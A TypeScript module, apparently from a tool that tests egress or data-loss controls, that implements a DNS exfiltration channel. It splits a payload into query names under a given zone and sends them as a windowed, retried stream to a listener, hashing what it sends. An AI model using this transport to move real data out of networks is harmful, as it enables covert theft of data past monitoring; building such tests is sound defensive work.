// Payload as names of DNS queries. All queries of a run are one stream, numbered from 0, of which a window may be under
// way at once; what is not answered is sent again, and counts once.

import { createHash } from 'node:crypto';
import { JawsError } from '@jaws/shared/contract/errors';
import { dnsChunkBytes, dnsWindowChunks, writeDnsName } from '@jaws/shared/exfil/dns-exfil';
import type { DnsAsker } from './dns-asker.ts';
import { dnsAnswerCodes, dnsQuestionTypes } from './dns-message.ts';
import type { OnSent, PayloadLink } from './payload-link.ts';
import type { SentFlow } from './sent-flow.ts';

/** The stream of a run, over all its sockets. */
export interface DnsStream {
  /** The next number, once the window has room for it; the data is hashed in this order. */
  readonly take: (data: Uint8Array) => Promise<number>;
  readonly answered: (sequence: number) => void;
  /** Nobody waits for room any more. */
  readonly fail: () => void;
  readonly sentBytes: () => number;
  readonly sha256: () => string;
}

export function createDnsStream(): DnsStream {
  const hash = createHash('sha256');
  const early = new Set<number>();
  const waiting: (() => void)[] = [];
  let next = 0;
  /** The oldest that is not answered. */
  let base = 0;
  let bytes = 0;
  let hasFailed = false;
  const hasRoom = (): boolean => hasFailed || next < base + dnsWindowChunks;
  const wake = (): void => {
    for (const one of waiting.splice(0)) one();
  };
  return {
    take: async (data) => {
      while (!hasRoom()) await new Promise<void>((resolve) => waiting.push(resolve));
      hash.update(data);
      bytes += data.length;
      return next++;
    },
    answered: (sequence) => {
      early.add(sequence);
      while (early.delete(base)) base++;
      wake();
    },
    fail: () => {
      hasFailed = true;
      wake();
    },
    sentBytes: () => bytes,
    sha256: () => hash.copy().digest('hex'),
  };
}

/** Of a query that came too early: the one before it is asked again by then. */
const againAfterMs = 300;
const mostTooEarly = 50;

// eslint-disable-next-line max-lines-per-function -- short functions over one state, which nobody else may touch
export function createDnsLink(
  asker: DnsAsker,
  runId: string,
  zone: string,
  stream: DnsStream,
  flow: SentFlow,
  onSent: OnSent,
): PayloadLink {
  const most = dnsChunkBytes(zone);
  const underWay = new Set<Promise<void>>();
  let failure: Error | null = null;
  const fail = (error: unknown): void => {
    failure ??= error instanceof Error ? error : new Error(String(error));
    stream.fail();
  };
  const deliver = async (name: string, sequence: number): Promise<void> => {
    for (let tries = 1; failure === null; tries++) {
      const { code } = await asker.ask(name, dnsQuestionTypes.a);
      if (code === dnsAnswerCodes.noError) {
        stream.answered(sequence);
        return;
      }
      if (code !== dnsAnswerCodes.serverFailure || tries === mostTooEarly)
        throw new JawsError(
          'chum.broken',
          `The listener at ${asker.place} takes no more of this run (DNS code ${code}).`,
        );
      await new Promise((resolve) => setTimeout(resolve, againAfterMs));
    }
  };
  return {
    flow,
    send: async (bytes, source) => {
      for (let left = bytes; left > 0;) {
        const data = source.next(Math.min(left, most));
        left -= data.length;
        const sequence = await stream.take(data);
        if (failure !== null) throw failure;
        flow.add(data);
        onSent(data.length);
        const delivery = deliver(writeDnsName({ kind: 'data', runId, sequence, data }, zone), sequence).catch(
          fail,
        );
        underWay.add(delivery);
        void delivery.then(() => underWay.delete(delivery));
      }
    },
    finish: async () => {
      await Promise.all(underWay);
      asker.close();
      flow.end();
      if (failure !== null) throw failure;
    },
    stalledMs: () => 0,
    abort: () => {
      const error = new JawsError('chum.broken', `The queries to ${asker.place} were given up.`);
      fail(error);
      asker.close(error);
      flow.end();
    },
  };
}
